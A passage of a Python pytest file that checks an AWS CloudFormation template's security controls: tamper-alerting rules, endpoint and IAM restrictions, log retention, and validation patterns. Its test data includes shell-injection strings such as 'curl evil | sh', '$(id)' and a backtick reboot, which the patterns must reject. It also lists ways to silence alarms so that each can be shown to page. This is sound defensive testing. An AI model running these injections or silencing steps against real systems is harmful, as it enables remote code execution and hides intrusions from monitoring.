    gateway = set(by_source["aws.apigateway"]["eventName"])
    assert {"UpdateDomainName", "PutIntegration", "UpdateIntegration", "UpdateStage", "UpdateAuthorizer"} <= gateway
    assert "requestParameters" not in by_source["aws.apigateway"]  # any API in the account can use the VPC link
    for rule in ("TruststoreObjectChangeRule", "TrustConfigurationChangeRule"):
        assert props(rule)["Targets"][0]["Arn"] == ALARM_TOPIC
    statements = props("AlarmTopicPolicy")["PolicyDocument"]["Statement"]
    events = next(s for s in statements if s["Principal"] == {"Service": "events.amazonaws.com"})
    assert events["Condition"]["ArnEquals"]["aws:SourceArn"] == [
        {"Fn::GetAtt": ["TruststoreObjectChangeRule", "Arn"]},
        {"Fn::GetAtt": ["TrustConfigurationChangeRule", "Arn"]},
        {"Fn::GetAtt": ["TrustMonitorTamperRule", "Arn"]},
    ]


def test_optional_trail_records_data_events_of_the_bucket_and_the_authorizer() -> None:
    assert TEMPLATE["Parameters"]["EnableBucketTrail"]["AllowedValues"] == ["true", "false"]
    trail = RESOURCES["BucketTrail"]
    assert trail["Condition"] == "CreateBucketTrail"
    selectors = trail["Properties"]["AdvancedEventSelectors"]
    fields = [{f["Field"]: f for f in s["FieldSelectors"]} for s in selectors]
    assert fields[0]["resources.ARN"]["StartsWith"] == [{"Fn::Sub": "${TruststoreBucket.Arn}/"}]
    assert fields[1]["resources.ARN"]["Equals"] == [
        {"Fn::GetAtt": ["AuthorizerFunction", "Arn"]},
        {"Fn::Sub": "${AuthorizerFunction.Arn}:live"},  # invocations through the alias (AuthorizerSnapStart)
    ]
    assert all(f["eventCategory"]["Equals"] == ["Data"] for f in fields)
    assert trail["Properties"]["EnableLogFileValidation"] is True


def test_endpoints_admit_only_this_accounts_principals_and_named_aws_buckets() -> None:
    """Issue 22 item 4: a compromised node cannot use the endpoints to reach another account's resources."""
    account = {"Ref": "AWS::AccountId"}
    endpoints = {name: r["Properties"] for name, r in RESOURCES.items() if r["Type"] == "AWS::EC2::VPCEndpoint"}
    assert len(endpoints) == 7
    for name, endpoint in endpoints.items():
        for statement in endpoint["PolicyDocument"]["Statement"]:
            assert statement["Effect"] == "Allow", name
            if statement.get("Sid") == "ReadAwsOwnedBucketsTheNodesNeed":
                assert statement["Action"] == "s3:GetObject"
                assert all(
                    "${AWS::Region}" in r["Fn::Sub"] and r["Fn::Sub"].endswith("/*") for r in statement["Resource"]
                )
                continue
            assert statement["Condition"]["StringEquals"]["aws:PrincipalAccount"] == account, name
    s3 = endpoints["S3Endpoint"]["PolicyDocument"]["Statement"][0]
    assert s3["Condition"]["StringEquals"]["aws:ResourceAccount"] == account
    assert endpoints["LambdaEndpoint"]["PolicyDocument"]["Statement"][0]["Resource"] == {"Ref": "NodeCodeLayer"}
    assert endpoints["CloudFormationEndpoint"]["PolicyDocument"]["Statement"][0]["Resource"] == {"Ref": "AWS::StackId"}


def test_node_egress_only_to_the_endpoints_and_s3() -> None:
    egress = props("NodeSecurityGroup")["SecurityGroupEgress"]
    assert all("CidrIp" not in rule and "CidrIpv6" not in rule for rule in egress)  # never 0.0.0.0/0
    assert [(r["FromPort"], r.get("DestinationSecurityGroupId"), r.get("DestinationPrefixListId")) for r in egress] == [
        (443, {"Ref": "EndpointSecurityGroup"}, None),
        (443, None, {"Ref": "S3PrefixListId"}),
    ]
    pattern = TEMPLATE["Parameters"]["S3PrefixListId"]["AllowedPattern"]
    assert re.fullmatch(pattern, "pl-6da54004")
    assert not re.fullmatch(pattern, "0.0.0.0/0")


def test_node_role_reads_parameters_only_under_the_stack_path() -> None:
    role = props("NodeRole")
    assert "ManagedPolicyArns" not in role
    statements = [s for p in role["Policies"] for s in p["PolicyDocument"]["Statement"]]
    for statement in statements:
        actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
        assert not [a for a in actions if a.endswith("*")]
        if any(a.startswith("ssm:GetParameter") for a in actions):
            assert statement["Resource"] == {
                "Fn::Sub": "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter/${AWS::StackName}/*"
            }
    session = next(s for s in statements if s.get("Sid") == "SsmAgent")["Action"]
    assert "ssmmessages:OpenDataChannel" in session
    assert "ssm:UpdateInstanceInformation" in session


def test_alarms_reach_someone_by_default() -> None:
    """Issue 22 item 5: no AlarmTopicArn means the stack's own topic (with an optional email), not silence."""
    assert TEMPLATE["Conditions"]["CreateAlarmTopic"] == {"Fn::Equals": [{"Ref": "AlarmTopicArn"}, ""]}
    assert RESOURCES["AlarmTopic"]["Condition"] == "CreateAlarmTopic"
    subscription = RESOURCES["AlarmEmailSubscription"]
    assert subscription["Condition"] == "SubscribeAlarmEmail"
    assert subscription["Properties"]["Endpoint"] == {"Ref": "AlarmEmail"}
    pattern = TEMPLATE["Parameters"]["AlarmEmail"]["AllowedPattern"]
    assert re.fullmatch(pattern, "")
    assert re.fullmatch(pattern, "ops@example.com")
    assert not re.fullmatch(pattern, "ops@example.com; rm")
    alarms = [r["Properties"] for r in of_type("AWS::CloudWatch::Alarm")]
    assert all(a["AlarmActions"] == [ALARM_TOPIC] for a in alarms)


def test_security_signals_page() -> None:
    alarms = [a["Properties"] for a in of_type("AWS::CloudWatch::Alarm")]
    watched = {a["MetricName"]: a for a in alarms if "MetricName" in a}
    for metric in ("DenyRevoked", "TruststoreEntrySkipped", "RevocationSoftFail", "DenyAssertionUnavailable"):
        assert watched[metric]["Threshold"] == 1, metric  # each single occurrence pages
    for metric in ("DenyNodeMismatch", "DenyPolicyDenied"):
        assert watched[metric]["Threshold"] == {"Ref": "SecurityDenyThreshold"}, metric


def test_audit_logs_outlive_the_stack_with_a_long_retention() -> None:
    groups = {name: r for name, r in RESOURCES.items() if r["Type"] == "AWS::Logs::LogGroup"}
    assert set(groups) == {"AuthorizerLogGroup", "ApiAccessLogGroup", "VpcFlowLogGroup", "CrlMirrorLogGroup"}
    for group in groups.values():
        assert (group["DeletionPolicy"], group["UpdateReplacePolicy"]) == ("Retain", "Retain")
        assert group["Properties"]["RetentionInDays"] == {"Ref": "LogRetentionDays"}
    assert TEMPLATE["Parameters"]["LogRetentionDays"]["Default"] >= 365


def test_optional_waf_limits_each_client_ip() -> None:
    acl = RESOURCES["WebAcl"]
    assert acl["Condition"] == "CreateWaf"
    assert acl["Properties"]["Scope"] == "REGIONAL"
    rule = acl["Properties"]["Rules"][0]
    assert rule["Action"] == {"Block": {}}
    assert rule["Statement"]["RateBasedStatement"] == {"Limit": {"Ref": "WafRateLimit"}, "AggregateKeyType": "IP"}
    stage = props("WebAclAssociation")["ResourceArn"]["Fn::Sub"]
    assert stage.endswith("/restapis/${NodeApi}/stages/${NodeApi.Stage}")


def test_nodes_are_patched_unless_turned_off() -> None:
    assert TEMPLATE["Parameters"]["EnableNodePatching"]["Default"] == "true"
    patching = RESOURCES["NodePatching"]
    assert patching["Condition"] == "PatchNodes"
    assert patching["Properties"]["Name"] == "AWS-RunPatchBaseline"
    assert patching["Properties"]["Parameters"]["Operation"] == ["Install"]
    assert patching["Properties"]["MaxConcurrency"] == "1"  # one node at a time: the other keeps serving
    tags = props("NodeLaunchTemplate")["LaunchTemplateData"]["TagSpecifications"][0]["Tags"]
    assert {"Key": "Name", "Value": {"Fn::Sub": "${AWS::StackName}-node"}} in tags
    assert patching["Properties"]["Targets"] == [{"Key": "tag:Name", "Values": [{"Fn::Sub": "${AWS::StackName}-node"}]}]


def test_object_keys_refuse_wildcards() -> None:
    """``*`` in TruststoreKey or AccessPolicyKey would widen the authorizer's s3:GetObject to the bucket."""
    for name in ("TruststoreKey", "AccessPolicyKey"):
        pattern = TEMPLATE["Parameters"][name]["AllowedPattern"]
        assert re.fullmatch(pattern, "ca/truststore.pem")
        for bad in ("*", "crls/*", "a?b", "../x", "/x", "a b", "${AWS::AccountId}"):
            assert not re.fullmatch(pattern, bad), (name, bad)


ROUTE_IDS = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,20}", fullmatch=True)
ROUTE_URLS = st.builds(
    lambda host, port: f"http://{host}" + (f":{port}" if port else ""),
    st.from_regex(r"[a-z0-9][a-z0-9.-]{0,30}", fullmatch=True),
    st.one_of(st.none(), st.integers(0, 65535)),
)


@settings(max_examples=100, deadline=None)
@given(routes=st.dictionaries(ROUTE_IDS, ROUTE_URLS, max_size=4))
def test_node_routes_the_pattern_accepts_are_routes_files(routes: dict[str, str]) -> None:
    """Issue 22 item 7: NodeRoutes is a checked JSON object; what the pattern admits, the node accepts."""
    import tempfile

    from nodegate_node.server import load_routes

    pattern = TEMPLATE["Parameters"]["NodeRoutes"]["AllowedPattern"]
    for text in (json.dumps(routes), json.dumps(routes, separators=(",", ":"))):
        assert re.fullmatch(pattern, text), text
        with tempfile.NamedTemporaryFile("w", suffix=".json") as file:
            file.write(text)
            file.flush()
            assert load_routes(file.name) == routes


@settings(max_examples=200, deadline=None)
@given(port=st.integers(0, 999999))
def test_node_routes_pattern_and_node_agree_on_ports(port: int) -> None:
    """A port the pattern admits is one the node backend accepts at start, and the other way round."""
    import tempfile

    from nodegate_node.server import load_routes

    text = json.dumps({"node-1": f"http://10.40.0.25:{port}"})
    admitted = re.fullmatch(TEMPLATE["Parameters"]["NodeRoutes"]["AllowedPattern"], text) is not None
    with tempfile.NamedTemporaryFile("w", suffix=".json") as file:
        file.write(text)
        file.flush()
        try:
            accepted = bool(load_routes(file.name))
        except ValueError:
            accepted = False
    assert admitted == accepted == (port <= 65535), port


def test_node_routes_refuse_shell_and_non_routes() -> None:
    pattern = TEMPLATE["Parameters"]["NodeRoutes"]["AllowedPattern"]
    for bad in (
        "{}\nROUTES\ncurl evil | sh\ncat <<ROUTES\n{}",
        '{"node-1": "http://$(id)"}',
        '{"node-1": "https://x"}',
        '{"node 1": "http://x"}',
        '["node-1"]',
        '{"node-1": "http://x`reboot`"}',
        "{'node-1': 'http://x'}",
    ):
        assert not re.fullmatch(pattern, bad), bad


def test_crl_mirror_is_opt_in_on_a_schedule_with_least_privilege() -> None:
    mirror = RESOURCES["CrlMirrorFunction"]
    assert TEMPLATE["Parameters"]["CrlMirror"]["Default"] == "false"
    assert TEMPLATE["Conditions"]["MirrorEnabled"] == {"Fn::Equals": [{"Ref": "CrlMirror"}, "true"]}
    for name in ("CrlMirrorFunction", "CrlMirrorLogGroup", "CrlNearNextUpdateAlarm", "CrlMirrorErrorsAlarm"):
        assert RESOURCES[name]["Condition"] == "MirrorEnabled"
    properties = mirror["Properties"]
    # the authorizer's code and validation rules, its own entry point
    assert (properties["CodeUri"], properties["Handler"]) == ("src/authorizer", "mirror_app.lambda_handler")
    schedule = properties["Events"]["Schedule"]
    assert schedule["Type"] == "Schedule"
    assert schedule["Properties"]["Schedule"] == {"Ref": "CrlMirrorSchedule"}
    assert TEMPLATE["Parameters"]["CrlMirrorSchedule"]["Default"] == "rate(15 minutes)"
    statements = properties["Policies"][0]["Statement"]
    granted = {
        (action, json.dumps(s["Resource"], sort_keys=True))
        for s in statements
        for action in (s["Action"] if isinstance(s["Action"], list) else [s["Action"]])
    }
    truststore = json.dumps({"Fn::Sub": "${TruststoreBucket.Arn}/${TruststoreKey}"})
    mirrored = json.dumps({"Fn::Sub": "${TruststoreBucket.Arn}/crls/mirror-*"})
    bucket = json.dumps({"Fn::GetAtt": ["TruststoreBucket", "Arn"]}, sort_keys=True)
    assert granted == {
        ("s3:GetObject", truststore),
        ("s3:GetObjectVersion", truststore),
        ("s3:GetObject", mirrored),
        ("s3:PutObject", mirrored),  # it writes only its own objects under the CRL prefix
        ("s3:ListBucket", bucket),
    }
    listing = next(s for s in statements if s["Action"] == "s3:ListBucket")
    assert listing["Condition"] == {"StringLike": {"s3:prefix": ["crls/*"]}}
    variables = properties["Environment"]["Variables"]
    assert variables["CRL_STORE_URI"] == props("AuthorizerFunction")["Environment"]["Variables"]["CRL_STORE_URI"]
    assert variables["CRL_MIRROR_URLS"] == {"Ref": "CrlMirrorUrls"}
    plain = {k: v for k, v in variables.items() if isinstance(v, str)}
    load_settings(plain | {"TRUSTSTORE_URI": "s3://bucket-name/truststore.pem"})


def test_crl_mirror_alarms_on_a_crl_near_its_next_update_and_on_errors() -> None:
    near = props("CrlNearNextUpdateAlarm")
    assert near["MetricName"] == "CrlSecondsToNextUpdateMin"
    assert near["MetricName"] in mirror_metric_names()
    assert near["Dimensions"] == [{"Name": "service", "Value": "crl-mirror"}]
    assert (near["Statistic"], near["ComparisonOperator"]) == ("Minimum", "LessThanThreshold")
    assert near["Threshold"] == {"Ref": "CrlNextUpdateAlarmSeconds"}
    assert near["TreatMissingData"] == "breaching"  # a mirror that stops publishing alarms too
    errors = props("CrlMirrorErrorsAlarm")
    assert (errors["Namespace"], errors["MetricName"]) == ("AWS/Lambda", "Errors")
    assert errors["Dimensions"] == [{"Name": "FunctionName", "Value": {"Ref": "CrlMirrorFunction"}}]


def test_authorizer_fetch_setting_is_a_parameter_defaulting_to_on() -> None:
    assert props("AuthorizerFunction")["Environment"]["Variables"]["REVOCATION_FETCH"] == {"Ref": "RevocationFetch"}
    parameter = TEMPLATE["Parameters"]["RevocationFetch"]
    assert parameter["Default"] == "on"
    for value in parameter["AllowedValues"]:
        load_settings({"TRUSTSTORE_URI": "file:///ts.pem", "REVOCATION_FETCH": value})


def test_translated_mirror_runs_on_an_eventbridge_rule_only_when_enabled() -> None:
    off = translated()["Resources"]
    rules = {
        name: r
        for name, r in off.items()
        if r["Type"] == "AWS::Events::Rule" and "ScheduleExpression" in r["Properties"]
    }
    assert rules
    assert all(r.get("Condition") == "MirrorEnabled" for r in rules.values())
    assert all(r["Properties"]["ScheduleExpression"] == {"Ref": "CrlMirrorSchedule"} for r in rules.values())


def test_the_watchers_are_watched_and_new_paths_to_the_nodes_page() -> None:
    """Review finding: disabling the trust-change rule first, then changing the authorizer, raised nothing; a new
    VPC link, Cloud Map service or function with the authorizer's role was unwatched, and so was the mirror."""
    changes = props("TrustConfigurationChangeRule")
    tamper = props("TrustMonitorTamperRule")
    branches = changes["EventPattern"]["$or"]
    watched = [b["detail"]["requestParameters"]["name"] for b in branches if b["source"] == ["aws.events"]]
    assert watched == [[{"Fn::Sub": "${AWS::StackName}-monitor-tamper"}]]
    assert tamper["Name"] == {"Fn::Sub": "${AWS::StackName}-monitor-tamper"}
    by_source: dict[str, Any] = {}
    for branch in tamper["EventPattern"]["$or"]:
        by_source.setdefault(branch["source"][0], branch["detail"])  # the first branch of each source
    objects = props("TruststoreObjectChangeRule")["Name"]
    assert by_source["aws.events"]["requestParameters"]["name"] == [changes["Name"], objects]
    assert {"DisableRule", "RemoveTargets", "DeleteRule"} <= set(by_source["aws.events"]["eventName"])
    assert {"Unsubscribe", "SetTopicAttributes"} <= set(by_source["aws.sns"]["eventName"])
    assert {"DisableAlarmActions", "DeleteAlarms"} <= set(by_source["aws.monitoring"]["eventName"])
    assert tamper["Targets"][0]["Arn"] == ALARM_TOPIC
    functions = next(b for b in branches if b["source"] == ["aws.lambda"])["detail"]["requestParameters"]
    assert {"Fn::If": ["MirrorEnabled", {"Ref": "CrlMirrorFunction"}, {"Ref": "AWS::NoValue"}]} in functions[
        "functionName"
    ]
    created = [b["detail"] for b in branches if b["source"] == ["aws.lambda"]][1]
    assert created["requestParameters"] == {"role": [{"Fn::GetAtt": ["AuthorizerFunctionRole", "Arn"]}]}
    (gateway,) = [set(b["detail"]["eventName"]) for b in branches if b["source"] == ["aws.apigateway"]]
    assert {"CreateVpcLink", "CreateIntegration", "CreateApi"} <= gateway
    assert any(b["source"] == ["aws.servicediscovery"] for b in branches)


STACK, ACCOUNT = "ng", "arn:aws:sns:eu-west-1:123456789012"
TOPIC = f"{ACCOUNT}:ng-AlarmTopic-1A2B3C"


def _deployed(value: Any) -> Any:
    """A template value as the deployed stack ng resolves it (conditions true, physical ids made up)."""
    if isinstance(value, list):
        return [v for v in (_deployed(item) for item in value) if v is not None]
    if not isinstance(value, dict):
        return value
    if "Ref" in value:
        return {"AWS::StackName": STACK, "AWS::NoValue": None, "AlarmTopic": TOPIC}.get(
            value["Ref"], f"{STACK}-{value['Ref']}-1A2B3C"
        )
    if "Fn::GetAtt" in value:
        return f"arn:aws:x:eu-west-1:123456789012:{value['Fn::GetAtt'][0]}"
    if "Fn::If" in value:
        return _deployed(value["Fn::If"][1])
    if "Fn::Sub" in value:
        text, names = value["Fn::Sub"] if isinstance(value["Fn::Sub"], list) else (value["Fn::Sub"], {})
        for name, given in {"AWS::StackName": STACK, **{k: _deployed(v) for k, v in names.items()}}.items():
            text = text.replace(f"${{{name}}}", given)
        return text
    return {key: _deployed(item) for key, item in value.items()}


def _pages(source: str, name: str, parameters: dict[str, Any]) -> bool:
    """Whether a CloudTrail management event, as EventBridge delivers it, matches a watching rule of the
    template (moto's EventBridge pattern matcher over the template's own patterns)."""
    from moto.events.models import EventPattern

    event = {
        "source": source,
        "detail-type": "AWS API Call via CloudTrail",
        "detail": {"eventSource": f"{source[4:]}.amazonaws.com", "eventName": name, "requestParameters": parameters},
    }
    rules = ("TruststoreObjectChangeRule", "TrustConfigurationChangeRule", "TrustMonitorTamperRule")
    return any(
        EventPattern.load(json.dumps(_deployed(props(rule)["EventPattern"]))).matches_event(event) for rule in rules
    )


SILENCING = [
    ("aws.monitoring", "PutMetricAlarm", {"alarmName": f"{STACK}-DenyRiseAlarm-1A2B3C", "alarmActions": []}),
    ("aws.monitoring", "DeleteAlarms", {"alarmNames": [f"{STACK}-DenyRiseAlarm-1A2B3C"]}),
    ("aws.monitoring", "DisableAlarmActions", {"alarmNames": [f"{STACK}-DenyRiseAlarm-1A2B3C"]}),
    ("aws.sns", "Unsubscribe", {"subscriptionArn": f"{TOPIC}:0d8f-4b3c"}),
    (
        "aws.sns",
        "SetSubscriptionAttributes",
        {"subscriptionArn": f"{TOPIC}:0d8f-4b3c", "attributeName": "FilterPolicy", "attributeValue": '{"x":["y"]}'},
    ),
    *[("aws.events", call, {"name": f"{STACK}-truststore-objects"}) for call in ("DisableRule", "DeleteRule")],
    ("aws.events", "RemoveTargets", {"name": f"{STACK}-truststore-objects", "ids": ["alarm-topic"]}),
    ("aws.events", "PutRule", {"name": f"{STACK}-truststore-objects", "state": "DISABLED"}),
    ("aws.ssm", "DeleteParameter", {"name": f"/{STACK}/truststore-version"}),
    ("aws.ssm", "DeleteParameters", {"names": ["/other/x", f"/{STACK}/truststore-version"]}),
]
UNRELATED = [
    ("aws.monitoring", "PutMetricAlarm", {"alarmName": "billing-alarm"}),
    ("aws.sns", "Unsubscribe", {"subscriptionArn": f"{ACCOUNT}:newsletter:0d8f-4b3c"}),
    ("aws.sns", "Unsubscribe", {"subscriptionArn": f"{TOPIC}-other:0d8f-4b3c"}),
    ("aws.events", "DisableRule", {"name": "nightly-report"}),
    ("aws.ssm", "DeleteParameters", {"names": ["/other/x", "/other/y"]}),
]


@pytest.mark.parametrize(("source", "name", "parameters"), SILENCING)
def test_every_way_to_silence_a_watcher_pages(source: str, name: str, parameters: dict[str, Any]) -> None:
    """Review finding (MEDIUM): overwriting a nodegate alarm without actions, changing or removing the alarm
    topic's subscription, disabling the (then unnamed) truststore-object rule and deleting the truststore-version
    parameter with DeleteParameters (`names`, a list) matched no rule."""
    assert _pages(source, name, parameters)


@pytest.mark.parametrize(("source", "name", "parameters"), UNRELATED)
def test_the_same_calls_on_other_resources_do_not_page(source: str, name: str, parameters: dict[str, Any]) -> None:
    assert not _pages(source, name, parameters)
